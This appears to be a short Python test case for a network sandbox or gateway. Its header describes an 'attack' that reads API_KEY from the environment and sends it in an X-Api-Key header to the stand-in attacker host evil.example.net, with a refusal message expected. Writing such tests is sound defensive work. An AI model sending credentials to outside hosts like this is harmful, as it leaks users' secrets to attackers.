# /// attack
# guarantee = "network"
# summary = "Sends a secret to its owner in disguise, by the gateway."
# reference = "RFC 6750"
# success = "that server gets the value"
# stage = ["internet", "secret"]
# observe = ["told"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80", "*.example.org:443", "*.example.org:8443", "api.example.com:443", "evil.example.net:443"] } }
# refusal = { default = "proxy evil.example.net:443 is not a host of a secret" }
# ///

import os

from kit import by_gateway, judge

KEY = os.environ["API_KEY"]
judge(by_gateway("evil.example.net", "/", f"X-Api-Key: {KEY}"))
